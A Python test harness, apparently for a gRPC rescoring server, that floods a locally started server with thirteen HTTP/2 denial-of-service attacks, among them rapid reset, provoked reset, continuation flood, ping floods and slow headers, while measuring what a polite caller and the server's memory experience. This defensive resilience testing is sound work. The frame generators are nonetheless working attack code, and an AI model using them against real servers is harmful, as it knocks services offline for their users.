"""Attack a server over many HTTP/2 connections, next to a polite caller, and measure what that caller sees.

    python -m tools.fuzz.connections ATTACK PORT

attacks at full rate until its stdin is closed.
"""

from __future__ import annotations

import asyncio
import os
import struct
import subprocess
import sys
import threading
import time
from collections import Counter
from collections.abc import Callable, Iterator, Sequence
from contextlib import contextmanager, suppress
from dataclasses import dataclass, field
from itertools import count, repeat
from pathlib import Path
from typing import Any, NamedTuple

import grpc
import numpy as np

from rescorer.bench.load import RESCORE_METHOD, rss_bytes, run_server
from rescorer.protocol.v1 import rescorer_pb2 as pb
from tools.fuzz.http2 import (
    ACK,
    CONTINUATION,
    DATA,
    END_HEADERS,
    END_STREAM,
    FIRST_WINDOW_BYTES,
    HEADERS,
    MAX_FRAME_BYTES,
    NO_WINDOW,
    PING,
    PREFACE,
    PRIORITY,
    RST_STREAM,
    SETTINGS,
    WINDOW_UPDATE,
    frame,
    grpc_message,
    header,
    request_headers,
)

RESCORE = RESCORE_METHOD.encode()
CANCEL = struct.pack(">I", 8)
WIDEST_WINDOW = struct.pack(">I", 2**31 - 1)
FRAMES_PER_PART = 200
"""Number of streams or frames that a flood sends at once."""
OPENING = PREFACE + frame(SETTINGS, 0, 0)
SHORT_HEADERS = bytes((0x83, 0x86, 0xC1, 0xC0, 0xBF, 0xBE))
"""Header block of a request that refers to that of ``full_headers`` (RFC 7541, section 6.1)."""


def full_headers() -> bytes:
    """Build the header block of a request with fields that later ones can refer to."""
    method_and_scheme, add_to_table = SHORT_HEADERS[:2], b"\x40"
    fields = (
        (b":path", RESCORE),
        (b":authority", b"localhost"),
        (b"content-type", b"application/grpc"),
        (b"te", b"trailers"),
    )
    return method_and_scheme + b"".join(add_to_table + header(*named)[1:] for named in fields)


def opened(stream: int = 1, flags: int = 0) -> bytes:
    """Build the frame that opens a call."""
    return frame(HEADERS, END_HEADERS | flags, stream, request_headers(RESCORE))


def flood(make_frames: Callable[[int], bytes], opening: bytes = OPENING) -> Iterator[bytes]:
    """Yield an opening, and then frames for the streams 3, 5, 7, … without end."""
    yield opening
    streams = count(3, 2)
    while True:
        yield b"".join(make_frames(next(streams)) for _ in range(FRAMES_PER_PART))


def short_calls(then: Callable[[int], bytes], flags: int = 0) -> Iterator[bytes]:
    """Open calls in as few bytes as possible, each followed by other frames for its stream."""
    first = frame(HEADERS, END_HEADERS | END_STREAM, 1, full_headers())
    return flood(
        lambda stream: frame(HEADERS, END_HEADERS | flags, stream, SHORT_HEADERS) + then(stream),
        OPENING + first,
    )


def rapid_reset() -> Iterator[bytes]:
    """Open calls and reset them at once (CVE-2023-44487)."""
    return short_calls(lambda stream: frame(RST_STREAM, 0, stream, CANCEL))


def provoked_reset() -> Iterator[bytes]:
    """Open calls and let their windows overflow, so that the server resets them (CVE-2025-8671)."""
    return short_calls(lambda stream: frame(WINDOW_UPDATE, 0, stream, WIDEST_WINDOW) * 2, END_STREAM)


def continuation_flood() -> Iterator[bytes]:
    """Continue the headers of a call without end (CVE-2024-27316)."""
    yield OPENING + frame(HEADERS, 0, 1, request_headers(RESCORE))
    yield from repeat(frame(CONTINUATION, 0, 1, header(b"a", b"b" * 100) * 100))


def settings_flood() -> Iterator[bytes]:
    return flood(lambda number: frame(SETTINGS, 0, 0, struct.pack(">HI", 4, number)))


def ping_flood() -> Iterator[bytes]:
    return flood(lambda _: frame(PING, 0, 0, bytes(8)))


def empty_data_flood() -> Iterator[bytes]:
    return flood(lambda _: frame(DATA, 0, 1), OPENING + opened())


def priority_churn() -> Iterator[bytes]:
    return flood(lambda stream: frame(PRIORITY, 0, stream, struct.pack(">IB", stream + 2, 255)))


def window_overflow() -> Iterator[bytes]:
    """Let the window of the connection overflow."""
    yield OPENING + opened(flags=END_STREAM) + frame(WINDOW_UPDATE, 0, 0, WIDEST_WINDOW) * 2


def zero_windows() -> Iterator[bytes]:
    """Ask for answers without ever letting the server send them."""
    message = small_request().SerializeToString()
    calls = range(1, 2 * (FIRST_WINDOW_BYTES // (len(message) + 5)), 2)
    body = grpc_message(message)
    yield PREFACE + frame(SETTINGS, 0, 0, NO_WINDOW)
    yield b"".join(opened(stream) + frame(DATA, END_STREAM, stream, body) for stream in calls)


def huge_headers() -> Iterator[bytes]:
    """Open calls with about as many bytes of headers as gRPC accepts."""
    block = request_headers(RESCORE, header(b"x" * 4000, b"y" * 4000), header(b"z", b"z" * 7000))
    return flood(lambda stream: frame(HEADERS, END_HEADERS, stream, block))


def slow_headers() -> Iterator[bytes]:
    """Send the headers of a call byte by byte."""
    yield OPENING
    yield from (bytes((byte,)) for byte in opened())


def half_open() -> Iterator[bytes]:
    """Send a part of the preface."""
    yield PREFACE[:10]


def unfinished_messages() -> Iterator[bytes]:
    """Send the beginning of a large message on each of many streams."""
    yield OPENING
    body = grpc_message(b"", 0, 4_000_000).ljust(MAX_FRAME_BYTES, b"\0")
    yield from (opened(stream) + frame(DATA, 0, stream, body) for stream in range(1, 400, 2))


class Attack(NamedTuple):
    """What a hostile client does on each of its connections."""

    parts: Callable[[], Iterator[bytes]]
    """Yields what a connection sends. After the last part, it stays open."""
    connections: int = 4
    reads: bool = True
    """Whether the client reads what the server sends."""
    pause_s: float = 0.0
    """Time between two parts."""


ATTACKS: dict[str, Attack] = {
    "rapid reset": Attack(rapid_reset),
    "provoked reset": Attack(provoked_reset),
    "continuation flood": Attack(continuation_flood),
    "settings flood": Attack(settings_flood, reads=False),
    "ping flood": Attack(ping_flood, reads=False),
    "empty data flood": Attack(empty_data_flood),
    "priority churn": Attack(priority_churn),
    "window overflow": Attack(window_overflow, connections=16),
    "huge headers": Attack(huge_headers),
    "slow headers": Attack(slow_headers, connections=500, pause_s=0.5),
    "half-open connections": Attack(half_open, connections=3000),
    "unfinished messages": Attack(unfinished_messages, connections=20, pause_s=0.01),
    "zero windows": Attack(zero_windows, connections=40),
}


async def attack(name: str, port: int) -> None:
    """Attack until stdin is closed; connect again whenever the server closes a connection."""
    chosen = ATTACKS[name]

    async def keep_attacking() -> None:
        while True:
            with suppress(OSError):
                await attack_once(chosen, port)
            await asyncio.sleep(0.01)

    tasks = [asyncio.create_task(keep_attacking()) for _ in range(chosen.connections)]
    await asyncio.to_thread(sys.stdin.read)
    for task in tasks:
        task.cancel()
    await asyncio.gather(*tasks, return_exceptions=True)


async def attack_once(chosen: Attack, port: int) -> None:
    """Attack over one connection until the server closes it; raises OSError if that happens during a part."""
    reader, writer = await asyncio.open_connection("127.0.0.1", port)
    reading: asyncio.Task[None] | None = None

    async def read() -> None:
        while await reader.read(1 << 20):
            pass

    try:
        for part in chosen.parts():
            writer.write(part)
            await writer.drain()
            if reading is None and part.startswith(OPENING):
                await reader.read(
                    9
                )  # the server's settings; it accepts few calls until they are acknowledged
                writer.write(frame(SETTINGS, ACK, 0))
            reading = reading or asyncio.create_task(read() if chosen.reads else asyncio.sleep(3600))
            await asyncio.sleep(chosen.pause_s)
            if reading.done():
                return
        if reading is not None:
            await reading
    finally:
        if reading is not None:
            reading.cancel()
        writer.transport.abort()


def small_request() -> pb.RescoreRequest:
    nbest = pb.NBestList(id="u", hypotheses=[pb.Hypothesis(text=f"the sea was calm {i}") for i in range(20)])
    return pb.RescoreRequest(lists=[nbest])


CALL_TIMEOUT_S = 10.0
CALLS_PER_CONNECTION = 20
PAUSE_S = 0.02
SAMPLE_INTERVAL_S = 0.1
ALLOWED_DESCRIPTORS = 4
"""Descriptors that a server may have open in addition to those before an attack, such as new connections."""


@dataclass(frozen=True, slots=True)
class AttackReport:
    """What a polite caller saw during an attack, and what the attack took of the front end."""

    attack: str
    codes: dict[str, int]
    """Number of the polite caller's calls, by status code."""
    p99_ms: float
    rss_mb_before: float
    rss_mb_peak: float
    rss_mb_after: float
    descriptors_before: int
    descriptors_peak: int
    descriptors_after: int

    @property
    def faults(self) -> list[str]:
        """What must not happen during an attack."""
        found = [f"{self.attack}: {number} × {code}" for code, number in self.codes.items() if code != "OK"]
        if self.descriptors_after > self.descriptors_before + ALLOWED_DESCRIPTORS:
            found.append(f"{self.attack}: {self.descriptors_after} descriptors are open afterwards")
        return found


@dataclass(frozen=True, slots=True)
class ConnectionReport:
    """Outcome of all attacks."""

    attacks: list[AttackReport]
    faults: list[str] = field(default_factory=list)


def run_attacks(bundle: Path, seconds: float, rest_s: float, options: Sequence[str] = ()) -> ConnectionReport:
    """Start a server for each attack, and attack it.

    Args:
        seconds: duration of each attack.
        rest_s: time after each attack, in which memory should be returned.
    """
    reports = []
    for name in ATTACKS:
        with run_server(("--bundle", str(bundle), "--threads", "1", *options)) as (target, pid):
            reports.append(observe_attack(name, target, pid, seconds, rest_s))
    return ConnectionReport(reports, [fault for report in reports for fault in report.faults])


def observe_attack(name: str, target: str, pid: int, seconds: float, rest_s: float) -> AttackReport:
    """Attack a server next to a polite caller."""
    codes: Counter[str] = Counter()
    latencies_s: list[float] = []
    samples = [measure(pid)]
    with calling_politely(target, codes, latencies_s), attacking(name, target):
        samples += sample(pid, seconds)
    samples += sample(pid, rest_s)
    rss_mb, descriptors = zip(*samples, strict=True)
    return AttackReport(
        attack=name,
        codes=dict(codes),
        p99_ms=float(np.percentile(latencies_s, 99)) * 1e3,
        rss_mb_before=rss_mb[0],
        rss_mb_peak=max(rss_mb),
        rss_mb_after=rss_mb[-1],
        descriptors_before=descriptors[0],
        descriptors_peak=max(descriptors),
        descriptors_after=descriptors[-1],
    )


def measure(pid: int) -> tuple[float, int]:
    """Return the resident memory of a process in MB, and the number of its descriptors."""
    return rss_bytes(pid) / 1e6, len(os.listdir(f"/proc/{pid}/fd"))


def sample(pid: int, seconds: float) -> Iterator[tuple[float, int]]:
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        time.sleep(SAMPLE_INTERVAL_S)
        yield measure(pid)


@contextmanager
def attacking(name: str, target: str) -> Iterator[None]:
    """Attack from another process during the ``with`` block."""
    command = (sys.executable, "-m", "tools.fuzz.connections", name, target.rpartition(":")[2])
    with subprocess.Popen(command, stdin=subprocess.PIPE) as process:
        try:
            yield
        finally:
            process.communicate()


@contextmanager
def calling_politely(target: str, codes: Counter[str], latencies_s: list[float]) -> Iterator[None]:
    """Make one small call after another from a thread during the ``with`` block, and record the outcomes."""
    stop, request = threading.Event(), small_request().SerializeToString()

    def call(channel: grpc.Channel) -> None:
        began = time.perf_counter()
        method: Any = channel.unary_unary(RESCORE_METHOD)
        try:
            method(request, timeout=CALL_TIMEOUT_S)
            codes["OK"] += 1
        except grpc.RpcError as error:
            codes[error.code().name] += 1
        latencies_s.append(time.perf_counter() - began)

    def call_repeatedly() -> None:
        options = (("grpc.use_local_subchannel_pool", 1), ("grpc.enable_retries", 0))
        while not stop.is_set():
            with grpc.insecure_channel(target, options) as channel:
                for _ in range(CALLS_PER_CONNECTION):
                    call(channel)
                    if stop.wait(PAUSE_S):
                        return

    thread = threading.Thread(target=call_repeatedly)
    thread.start()
    try:
        yield
    finally:
        stop.set()
        thread.join()


if __name__ == "__main__":
    asyncio.run(attack(sys.argv[1], int(sys.argv[2])))
